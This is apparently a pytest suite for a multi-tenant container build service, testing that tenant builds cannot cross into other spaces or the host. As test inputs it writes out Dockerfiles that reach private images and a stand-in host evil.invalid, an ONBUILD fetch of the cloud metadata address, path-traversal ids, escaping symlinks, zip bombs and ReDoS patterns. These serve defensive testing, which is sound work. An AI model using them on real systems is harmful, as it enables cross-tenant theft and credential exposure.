"""Builds stay inside their space and their folder: the attacks a writer of one space can
try through an SDI, each run against a real registry and builder, each checked for its
failure code and for what did not leak or change."""

from __future__ import annotations

import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
import yaml

from tests.support.accounts import Account, Admin
from tests.support.amqp import AMQP_URL
from tests.support.builds import (
    build_over_http,
    push_base_image,
    push_zip_package,
    upload_package,
    zip_of,
    zip_with_links,
)
from tests.support.oci import Client
from tests.support.processes import Registry, Service, ServiceProcess, start_build_stack

PRIVATE_TEXT = b"spaces-1 private: launch codes 0000\n"
EXTRACT_LIMIT = 10 * 1024 * 1024  # the builder's, for the whole build


@dataclass
class World:
    registry: Registry
    builder: ServiceProcess
    admin: Admin
    attacker: Account  # a writer of ``space`` and nothing else
    space: str
    private: str  # spaces-1's image, e.g. spaces-1/private-ab12:1.0
    private_layer: str  # the digest of its layer holding PRIVATE_TEXT
    public_base: str  # an image in a space that allows anonymous pull

    @property
    def auth(self) -> tuple[str, str]:
        return self.attacker.basic

    def sdi(self, files: dict[str, str | bytes], *, links: dict[str, str] | None = None) -> str:
        """An SDI package in the attacker's space; its id."""
        sdi_id = f"sdi-{uuid.uuid4().hex[:8]}"
        response = self._upload(sdi_id, zip_with_links(files, links) if links else zip_of(files))
        assert response.status_code == 201, response.text
        return sdi_id

    def sdi_pushed(self, files: dict[str, str | bytes], *, links: dict[str, str]) -> str:
        """An SDI whose ``sdi.yaml`` the upload endpoint refuses, pushed by the attacker as
        an OCI artifact instead (as oras would): what a build of it does is the builder's."""
        sdi_id = f"sdi-{uuid.uuid4().hex[:8]}"
        content = zip_with_links(files, links)
        refused = self._upload(sdi_id, content)
        assert refused.status_code == 422, refused.text
        client = Client.for_registry(self.registry.url, self.auth)
        push_zip_package(client, self.space, sdi_id, "1.0.0", content)
        return sdi_id

    def _upload(self, sdi_id: str, content: bytes) -> requests.Response:
        return requests.post(
            f"{self.registry.url}/api/v1/spaces/{self.space}/packages",
            files={"file": (f"{sdi_id}.1.0.0.zip", content)},
            auth=self.auth,
            timeout=60,
        )

    def build(self, sdi_id: str, **extra: Any) -> dict[str, Any]:
        request = {
            "build_id": f"attack-{uuid.uuid4().hex[:8]}",
            "sdi": {"id": sdi_id, "version": "1.0.0"},
            "image": {"repository": sdi_id, "tag": "1.0.0-deployments-1"},
            "deployment": {"id": "deployments-1", "environment": "Production"},
            "variables": {"Greeting": "hello"},
            **extra,
        }
        return build_over_http(self.registry.url, self.auth, self.space, request)

    def nothing_pushed(self, sdi_id: str) -> None:
        admin = Client.for_registry(self.registry.url, self.registry.auth)
        tags = admin.request("GET", f"/v2/{self.space}/{sdi_id}/tags/list")
        assert tags.status_code == 404 or tags.json().get("tags") in (None, []), tags.text
        layer = admin.request("HEAD", f"/v2/{self.space}/{sdi_id}/blobs/{self.private_layer}")
        assert layer.status_code == 404


def _push_private_image(client: Client, repository: str, on_build: list[str] | None = None) -> str:
    """An image whose one layer holds PRIVATE_TEXT in /secret.txt; the layer's digest."""
    files = {"secret.txt": PRIVATE_TEXT, "bin/sh": b"#!stub\n"}
    digest = push_base_image(client, repository, "1.0", files, on_build)
    manifest = client.request("GET", f"/v2/{repository}/manifests/{digest}").json()
    return str(manifest["layers"][0]["digest"])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, mongo_server: Service) -> Iterator[World]:
    registry, builder = start_build_stack(
        tmp_path_factory.mktemp("isolation"),
        mongo_server.port,
        AMQP_URL,
        SPACEDOCK_BUILD_MAX_EXTRACT_BYTES=str(EXTRACT_LIMIT),
        SPACEDOCK_BUILD_FEATURES_SECONDS="5",
    )
    try:
        admin = Admin(registry.url, registry.auth)
        owner = Client.for_registry(registry.url, registry.auth)
        private = f"spaces-1/private-{uuid.uuid4().hex[:6]}"
        private_layer = _push_private_image(owner, private)
        space = admin.space("tenant")
        attacker = admin.user("attacker")
        admin.grant(space, attacker, "writer")
        secret_package = zip_of({"secret.txt": PRIVATE_TEXT})
        upload_package(registry, "spaces-1", "secretpkg.1.0.0.zip", secret_package)
        public_space = admin.space("public", anonymous_pull=True)
        public_base = f"{public_space}/base"
        push_base_image(owner, public_base, "1.0")
        yield World(
            registry, builder, admin, attacker, space, f"{private}:1.0", private_layer,
            f"{public_base}:1.0",
        )  # fmt: skip
    finally:
        builder.stop()
        registry.stop()


def _failed(status: dict[str, Any], code: str, world: World) -> None:
    assert status["status"] == "failed", (status, world.builder.log_tail())
    assert status["error"]["code"] == code, (status, world.builder.log_tail())
    text = repr(status)
    assert PRIVATE_TEXT.decode().strip() not in text


# 1. cross-space images ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM {host}/{private}\nCOPY hello.txt /hello.txt\n",
        "FROM {host}/{public}\nCOPY --from={host}/{private} /secret.txt /stolen.txt\n",
        "ARG BASE={host}/{private}\nFROM ${{BASE}}\nRUN cat /secret.txt\n",
        "FROM {private}\nCOPY hello.txt /hello.txt\n",
    ],
    ids=["from", "copy-from", "from-arg-with-run", "without-host"],
)
def test_a_build_cannot_use_another_spaces_image(world: World, dockerfile: str) -> None:
    host = world.registry.host
    text = dockerfile.format(host=host, private=world.private, public=world.public_base)
    sdi_id = world.sdi({"Dockerfile": text, "hello.txt": "hi\n"})
    status = world.build(sdi_id)
    _failed(status, "base_image_denied", world)
    world.nothing_pushed(sdi_id)


@pytest.mark.parametrize(
    ("dockerfile", "build_args", "code"),
    [
        (
            "FROM ${{HTTP_PROXY}}spaces-1/x:1\nRUN true\n",
            {"HTTP_PROXY": "evil.invalid/"},
            "base_image_denied",
        ),
        (
            "FROM {host}/{public}\nARG U=http://127.0.0.1:9/x\nADD $U /x\n",
            {},
            "dockerfile_unsupported",
        ),
        (
            "FROM {host}/{public}\nCOPY --chown=0\t--from=evil.invalid/x:1 / /y\n",
            {},
            "base_image_denied",
        ),
        (
            "FROM {host}/{public}\nRUN true \\\u00a0\nFROM evil.invalid/img:1\n",
            {},
            "dockerfile_invalid",
        ),
        ("FROM {host}/{public} AS alpine\nCOPY --from=alpine /a /a\n", {}, "base_image_denied"),
    ],
    ids=["proxy-arg", "add-variable", "tab-flag", "nbsp-continuation", "copy-from-itself"],
)
def test_dockerfiles_read_differently_by_the_engine_are_refused(
    world: World, dockerfile: str, build_args: dict[str, str], code: str
) -> None:
    text = dockerfile.format(host=world.registry.host, public=world.public_base)
    sdi_id = world.sdi({"Dockerfile": text})
    _failed(world.build(sdi_id, build_args=build_args), code, world)
    world.nothing_pushed(sdi_id)


def test_a_base_whose_onbuild_triggers_fetch_is_refused(world: World) -> None:
    client = Client.for_registry(world.registry.url, world.attacker.basic)
    base = f"{world.space}/triggered-{uuid.uuid4().hex[:6]}"
    _push_private_image(client, base, ["ADD http://169.254.169.254/latest/meta-data /m"])
    sdi_id = world.sdi({"Dockerfile": f"FROM {world.registry.host}/{base}:1.0\nRUN true\n"})
    _failed(world.build(sdi_id), "dockerfile_unsupported", world)
    world.nothing_pushed(sdi_id)


def test_a_build_may_use_its_own_space_and_spaces_that_allow_anonymous_pull(world: World) -> None:
    client = Client.for_registry(world.registry.url, world.attacker.basic)
    push_base_image(client, f"{world.space}/own-base", "1.0")
    for base in (f"{world.space}/own-base:1.0", world.public_base):
        sdi_id = world.sdi({"Dockerfile": f"FROM {world.registry.host}/{base}\nCOPY hello.txt /\n",
                            "hello.txt": "hi\n"})  # fmt: skip
        status = world.build(sdi_id)
        assert status["status"] == "succeeded", (status, world.builder.log_tail())
        assert status["result"]["strategy"] == "assembled"


def test_the_build_credential_is_confined_and_only_the_builder_gets_one(world: World) -> None:
    """The credential a build acts with reads nothing of another space; a user cannot mint
    one, not even for their own space."""
    url = f"{world.registry.url}/api/v1/spaces/{world.space}/build-credentials"
    refused = requests.post(url, json={}, auth=world.attacker.key_basic, timeout=10)
    assert refused.status_code == 403
    admin_refused = requests.post(url, json={}, auth=world.registry.auth, timeout=10)
    assert admin_refused.status_code == 403
    from tests.support.processes import BUILDER_KEY

    minted = requests.post(
        url, json={"ttl_seconds": 60}, auth=("spacedock-builder", BUILDER_KEY), timeout=10
    )
    assert minted.status_code == 201, minted.text
    body = minted.json()
    assert body["space"] == world.space and 0 < body["expires_in"] <= 60
    confined = Client.for_registry(world.registry.url, (body["username"], body["password"]))
    repository, tag = world.private.rsplit(":", 1)
    assert confined.request("GET", f"/v2/{repository}/manifests/{tag}").status_code in (401, 403)
    assert confined.request("GET", f"/v2/{repository}/blobs/{world.private_layer}").status_code in (
        401, 403,
    )  # fmt: skip
    public_repository, public_tag = world.public_base.rsplit(":", 1)
    assert confined.request("GET", f"/v2/{public_repository}/manifests/{public_tag}").ok
    # Nothing to manage: no spaces, no users, no keys, and no further credentials.
    api = f"{world.registry.url}/api/v1"
    credential = (body["username"], body["password"])
    assert requests.get(f"{api}/spaces/spaces-1", auth=credential, timeout=10).status_code == 404
    assert requests.get(f"{api}/users/spacedock-builder/api-keys", auth=credential,
                        timeout=10).status_code == 404  # fmt: skip
    assert requests.post(url, json={}, auth=credential, timeout=10).status_code == 403
    token = requests.get(
        f"{world.registry.url}/auth/token",
        params={"service": "spacedock", "scope": f"repository:{repository}:pull"},
        auth=credential,
        timeout=10,
    )
    assert token.status_code == 200
    bearer = {"Authorization": f"Bearer {token.json()['token']}"}
    stolen = requests.get(
        f"{world.registry.url}/v2/{repository}/manifests/{tag}", headers=bearer, timeout=10
    )
    assert stolen.status_code in (401, 403)
    # A build credential is not a bearer token.
    as_bearer = requests.get(
        f"{world.registry.url}/v2/{world.space}/x/tags/list",
        headers={"Authorization": f"Bearer {body['password'].removeprefix('sdb_')}"},
        timeout=10,
    )
    assert as_bearer.status_code == 401


# 2. package ids ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "where",
    ["sdi.yaml", "request-packages", "request-sdi"],
)
def test_package_ids_that_are_not_names_never_reach_a_url_or_a_path(
    world: World, where: str
) -> None:
    escape = "context/s/../../../../spaces-1/packages/secretpkg"
    packages = [{"id": escape, "version": "1.0.0", "extract_to": "stolen"}]
    files: dict[str, str | bytes] = {
        "Dockerfile": f"FROM {world.registry.host}/{world.public_base}\nCOPY stolen/ /stolen/\n",
    }
    if where == "sdi.yaml":
        files["sdi.yaml"] = yaml.safe_dump({"packages": packages})
        sdi_id = world.sdi_pushed(files, links={"context": "."})
    else:
        sdi_id = world.sdi(files, links={"context": "."})
    extra: dict[str, Any] = {}
    if where == "request-packages":
        extra["packages"] = {escape: "1.0.0"}
    if where == "request-sdi":
        extra["sdi"] = {"id": f"../../../spaces-1/packages/{sdi_id}", "version": "1.0.0"}
    status = world.build(sdi_id, **extra)
    _failed(status, "sdi_invalid", world)
    world.nothing_pushed(sdi_id)


# 3. links that leave the tree -----------------------------------------------------------------


def _deep_link(outside: Path) -> str:
    """A target that looks inside while ``b`` does not exist yet, and leaves once ``b -> .``
    does: enough ``..`` to reach ``/`` from any build folder, then ``outside``."""
    return "b/" * 12 + "../" * 12 + str(outside).lstrip("/")


@pytest.mark.parametrize(
    "features",
    [
        {"substitute_in_files": ["a/victim.conf"]},
        {"structured_variables": ["a/*"]},
        {"dotnet_config_variables": True},
        {"substitute_in_files": ["Dockerfile"]},
    ],
    ids=["substitution", "structured-glob", "config-variables", "dockerfile-link"],
)
def test_links_that_leave_the_tree_in_a_later_order_are_refused(
    world: World, tmp_path: Path, features: dict[str, Any]
) -> None:
    outside = tmp_path / "host-folder"
    outside.mkdir()
    victim = outside / "victim.conf"
    victim.write_text("Greeting=#{Greeting}\n")
    (outside / "Web.config").write_text(
        '<configuration><appSettings><add key="Greeting" value="x"/></appSettings></configuration>'
    )
    (outside / "listing-canary-7d3f.json").write_text('{"Greeting": "x"}')
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in outside.iterdir()}
    links = {"a": _deep_link(outside), "b": "."}
    files: dict[str, str | bytes] = {"sdi.yaml": yaml.safe_dump({"features": features})}
    if "Dockerfile" in features.get("substitute_in_files", []):
        links["Dockerfile"] = "a/victim.conf"
    else:
        files["Dockerfile"] = f"FROM {world.registry.host}/{world.public_base}\nCOPY a/ /a/\n"
    sdi_id = world.sdi(files, links=links)
    status = world.build(sdi_id)
    _failed(status, "archive_link_escape", world)
    assert "listing-canary" not in repr(status) and "Greeting=" not in repr(status)
    after = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in outside.iterdir()}
    assert after == before
    world.nothing_pushed(sdi_id)


# 7. and 8. budgets -----------------------------------------------------------------------------


def test_a_template_that_explodes_fails_within_seconds_and_frees_the_slot(world: World) -> None:
    variables = {"A0": "0123456789"}
    for i in range(1, 25):
        variables[f"A{i}"] = f"#{{A{i - 1}}}#{{A{i - 1}}}"
    for template, extra in (
        ("#{A24}\n", {"variables": variables}),
        ('#{X | Match "(a+)+$"}\n', {"variables": {"X": "a" * 40 + "b"}}),
    ):
        sdi_id = world.sdi({
            "Dockerfile": f"FROM {world.registry.host}/{world.public_base}\nCOPY t.conf /\n",
            "t.conf": template,
            "sdi.yaml": yaml.safe_dump({"features": {"substitute_in_files": ["t.conf"]}}),
        })  # fmt: skip
        started = time.monotonic()
        status = world.build(sdi_id, **extra)
        _failed(status, "substitution_failed", world)
        assert time.monotonic() - started < 60
        world.nothing_pushed(sdi_id)
    # The slots are free: an ordinary build goes through at once.
    sdi_id = world.sdi({
        "Dockerfile": f"FROM {world.registry.host}/{world.public_base}\nCOPY t.conf /\n",
        "t.conf": "#{Greeting}\n",
        "sdi.yaml": yaml.safe_dump({"features": {"substitute_in_files": ["t.conf"]}}),
    })  # fmt: skip
    assert world.build(sdi_id)["status"] == "succeeded"


def test_extraction_limits_count_every_package_of_the_build(world: World) -> None:
    """Each reference to the same small zip is under the limit; together they are not."""
    bomb = zip_of({"zeros.bin": b"\0" * (3 * 1024 * 1024)})
    bomb_id = f"bomb-{uuid.uuid4().hex[:6]}"
    response = requests.post(
        f"{world.registry.url}/api/v1/spaces/{world.space}/packages",
        files={"file": (f"{bomb_id}.1.0.0.zip", bomb)},
        auth=world.auth,
        timeout=60,
    )
    assert response.status_code == 201, response.text
    packages = [{"id": bomb_id, "version": "1.0.0", "extract_to": f"copy{n}"} for n in range(6)]
    sdi_id = world.sdi({
        "Dockerfile": f"FROM {world.registry.host}/{world.public_base}\nCOPY . /\n",
        "sdi.yaml": yaml.safe_dump({"packages": packages}),
    })  # fmt: skip
    status = world.build(sdi_id)
    _failed(status, "archive_too_large", world)
    world.nothing_pushed(sdi_id)


# 6. sensitive values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "label",
    ['b64="#{Secret | ToBase64}"', 'part="#{Secret | Substring 0 7}"', 'via="#{Indirect}"'],
)
def test_sensitive_values_never_reach_image_config(world: World, label: str) -> None:
    secret = f"pw-{uuid.uuid4().hex}"
    sdi_id = world.sdi({
        "Dockerfile": f"FROM {world.registry.host}/{world.public_base}\nLABEL {label}\n",
        "sdi.yaml": yaml.safe_dump({"features": {"substitute_in_files": ["Dockerfile"]}}),
    })  # fmt: skip
    status = world.build(
        sdi_id,
        variables={"Indirect": "x-#{Secret | ToUpper}"},
        sensitive_variables={"Secret": secret},
    )
    _failed(status, "sensitive_value_in_image", world)
    assert secret not in repr(status) and secret[:7] not in repr(status)
    world.nothing_pushed(sdi_id)
